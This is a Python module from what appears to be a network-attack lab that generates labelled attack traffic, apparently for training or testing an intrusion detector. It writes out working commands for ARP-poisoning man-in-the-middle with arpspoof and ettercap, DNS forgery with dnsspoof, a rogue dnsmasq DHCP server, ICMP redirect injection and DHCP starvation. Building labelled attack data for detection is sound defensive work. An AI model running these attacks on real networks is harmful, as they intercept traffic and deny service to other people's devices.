"""Attacks on addresses, names and routes: who answers for another, or takes all addresses there are."""

# ruff: noqa: PLR0913  (one keyword per property of a device or strength of an attack)

import contextlib
import signal
import subprocess
import time
from collections.abc import Callable
from typing import Any, Final

from model_training.lab.attacks import common, intrude
from model_training.lab.household import CLOUD, NAMES
from model_training.lab.labels import Claim, DhcpClaims, Interception
from model_training.lab.network import Node
from model_training.lab.stage import Stage

BOOT_PAUSE_S: Final = 1.5


def mitm(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    peer: str = "router",
    two_way: bool = True,
    forward: bool = True,
    redirects: bool = False,
    tool: str = "arpspoof",
    period_s: float = 1.0,
    opcode: int = 2,
    repair: bool = True,
    forged_names: bool = False,
    seconds: float = 12.0,
) -> list[Claim]:
    """Poison the ARP tables of a victim (and its peer) and relay the traffic between them.

    With `forged_names`, dnsspoof answers the victim's questions meanwhile.
    """
    node, target, other = (stage.nodes[name] for name in (attacker, victim, peer))
    stage.network.sysctl(node.namespace, "net.ipv4.ip_forward", int(forward))
    for scope in ("all", "eth0"):
        stage.network.sysctl(
            node.namespace, f"net.ipv4.conf.{scope}.send_redirects", int(redirects)
        )
    start_ns = time.time_ns()
    if tool in _POISONERS:
        argv = _POISONERS[tool](target.ip, other.ip, two_way)
        how = signal.SIGINT if repair else signal.SIGKILL
        with _forged_names(stage, node) if forged_names else contextlib.nullcontext():
            stage.run_for(attacker, argv, seconds, how=how)
    else:
        targets = [[target.mac, target.ip, other.ip]]
        targets += [[other.mac, other.ip, target.ip]] if two_way else []
        job = {"targets": targets, "period_s": period_s, "opcode": opcode, "seconds": seconds}
        intrude(stage, attacker, "poison", own_mac=node.mac, **job)
    victims = (target.ip, other.ip)
    facts = common(stage, ("MITM", "arp_mitm", tool), attacker, victims, start_ns)
    return [Interception(**facts, own_ips=(node.ip,))]


def _arpspoof(target: str, other: str, two_way: bool) -> list[str]:  # noqa: FBT001
    return ["arpspoof", "-i", "eth0", "-t", target, *(["-r"] if two_way else []), other]


def _ettercap(target: str, other: str, two_way: bool) -> list[str]:  # noqa: FBT001
    how = "arp:remote" if two_way else "arp:oneway"
    return ["ettercap", "-T", "-q", "-i", "eth0", "-M", how, f"/{target}//", f"/{other}//"]


_POISONERS: dict[str, Callable[[str, str, bool], list[str]]] = {
    "arpspoof": _arpspoof,
    "ettercap": _ettercap,
}


def _forged_names(
    stage: Stage, node: Node
) -> contextlib.AbstractContextManager[subprocess.Popen[bytes]]:
    names = stage.network.work_dir / "forged-names"
    names.write_text("".join(f"{node.ip}\t{name}\n" for name in NAMES))
    argv = ["dnsspoof", "-i", "eth0", "-f", str(names), "udp", "dst", "port", "53"]
    return stage.network.running(node.namespace, argv, log_name="dnsspoof")


def rogue_dhcp(
    stage: Stage,
    attacker: str,
    victim: str,
    *,
    others: tuple[str, ...] = (),
    seconds: float = 16.0,
) -> list[Claim]:
    """Answer DHCP beside the router with dnsmasq, as the way out; victims come up meanwhile."""
    node, network = stage.nodes[attacker], stage.network
    network.sysctl(node.namespace, "net.ipv4.ip_forward", 1)
    start_ns = time.time_ns()
    argv = ["dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--port=0", "--no-ping"]
    argv += ["--user=root", "--pid-file=", "--interface=eth0", "--bind-interfaces"]
    argv += ["--dhcp-authoritative", f"--dhcp-leasefile={network.work_dir}/rogue-leases"]
    argv += [f"--dhcp-range={network.subnet}.2,{network.subnet}.253,255.255.255.0,10m"]
    argv += [f"--dhcp-option=3,{node.ip}", f"--dhcp-option=6,{node.ip}"]
    argv += [f"--dhcp-host={other.mac},{other.ip}" for other in stage.nodes.values()]
    end_s = time.monotonic() + seconds
    with network.running(node.namespace, argv, log_name="rogue-dhcp"):
        time.sleep(BOOT_PAUSE_S)
        for name in (victim, *others):
            stage.boot(name)
            time.sleep(BOOT_PAUSE_S)
        time.sleep(max(0.0, end_s - time.monotonic()))
    victims = tuple(stage.nodes[name].ip for name in (victim, *others))
    facts = common(stage, ("MITM", "rogue_dhcp", "dnsmasq"), attacker, victims, start_ns)
    return [DhcpClaims(**facts, port=67), Interception(**facts, own_ips=(node.ip,))]


def icmp_redirect(
    stage: Stage, attacker: str, victim: str, *, period_s: float = 2.0, seconds: float = 14.0
) -> list[Claim]:
    """Tell a victim in the router's name that the way to its cloud leads through the attacker."""
    node, target, router = (stage.nodes[name] for name in (attacker, victim, "router"))
    for scope in ("all", "eth0"):
        stage.network.sysctl(node.namespace, f"net.ipv4.conf.{scope}.send_redirects", 0)
        for switch, value in (("accept_redirects", 1), ("secure_redirects", 0)):
            stage.network.sysctl(target.namespace, f"net.ipv4.conf.{scope}.{switch}", value)
    stage.network.sysctl(node.namespace, "net.ipv4.ip_forward", 1)
    start_ns = time.time_ns()
    job: dict[str, Any] = {"own_mac": node.mac, "own_ip": node.ip, "router_ip": router.ip}
    job |= {"mac": target.mac, "ip": target.ip, "far_ip": CLOUD}
    intrude(stage, attacker, "redirect", **job, period_s=period_s, seconds=seconds)
    victims = (target.ip, router.ip)
    facts = common(stage, ("MITM", "icmp_redirect", "edgewarden-lab"), attacker, victims, start_ns)
    return [Interception(**facts, own_ips=(node.ip,))]


def starve_dhcp(
    stage: Stage, attacker: str, _victim: str, *, rate: float = 20.0, seconds: float = 8.0
) -> list[Claim]:
    """Ask for leases for hosts that are not there, until the router has none left."""
    start_ns = time.time_ns()
    own_mac = stage.nodes[attacker].mac
    intrude(stage, attacker, "starve", own_mac=own_mac, rate=rate, seconds=seconds)
    router = stage.nodes["router"].ip
    facts = common(
        stage, ("DOS", "dhcp_starvation", "edgewarden-lab"), attacker, (router,), start_ns
    )
    return [DhcpClaims(**facts, port=68)]
